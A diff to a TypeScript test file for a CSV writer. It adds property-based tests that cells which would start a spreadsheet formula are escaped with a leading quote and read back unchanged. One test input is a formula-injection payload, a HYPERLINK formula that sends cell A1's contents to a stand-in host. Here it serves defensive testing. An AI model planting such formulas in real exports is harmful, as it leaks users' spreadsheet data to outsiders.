@@ -1,7 +1,7 @@
 import * as fc from 'fast-check';
 import { parse } from 'csv-parse/sync';
 import { expect, test } from 'vitest';
-import { csvRecord } from './csv.ts';
+import { cellOf, csvRecord, textOfCell } from './csv.ts';
 
 test('quotes only what needs it', () => {
   expect(csvRecord(['rui', 'রুই', 85.5, 'a,b', 'say "hi"', ' x', ''])).toBe('rui,রুই,85.5,"a,b","say ""hi"""," x",\r\n');
@@ -11,6 +11,19 @@ test('is read as what was written', () => {
   fc.assert(
     fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 2, maxLength: 5 }), (values) => {
       expect(parse(csvRecord(values))).toEqual([values]);
+    }),
+  );
+});
+
+test('no cell begins a formula, and each is read as what was written', () => {
+  expect(cellOf('=HYPERLINK("https://elsewhere.example/?"&A1)')).toBe('\'=HYPERLINK("https://elsewhere.example/?"&A1)');
+  expect(cellOf('Rui = rohu')).toBe('Rui = rohu');
+  const begin = fc.stringMatching(/^['=+@＝－-]{0,3}$/);
+  fc.assert(
+    fc.property(begin, fc.string(), (start, end) => {
+      const text = start + end;
+      expect(cellOf(text)).not.toMatch(/^[=+\-@＝＋－＠]/);
+      expect(textOfCell(cellOf(text))).toBe(text);
     }),
   );
 });
